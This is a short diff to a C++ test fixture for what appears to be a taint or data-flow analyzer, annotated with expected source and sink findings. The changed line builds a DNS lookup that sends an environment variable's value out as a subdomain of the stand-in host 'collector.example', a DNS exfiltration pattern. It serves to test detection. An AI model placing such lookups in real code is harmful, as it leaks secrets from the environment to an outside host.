@@ -139,7 +139,7 @@ void upload_constant(FTPClientSession &session) {
 }
 
 void name() {
-    Poco::Net::DNS::hostByName(getenv("T")); //~ source(ENVIRONMENT) f24, sink(egress.dns) f24, finding(traced) f24, capability(DNS)
+    Poco::Net::DNS::hostByName(std::string(getenv("T")) + ".collector.example"); //~ source(ENVIRONMENT) f24, sink(egress.dns) f24, finding(traced) f24, capability(DNS)
     Poco::Net::DNS::hostByName("collector.example"); //~ ok
 }
 
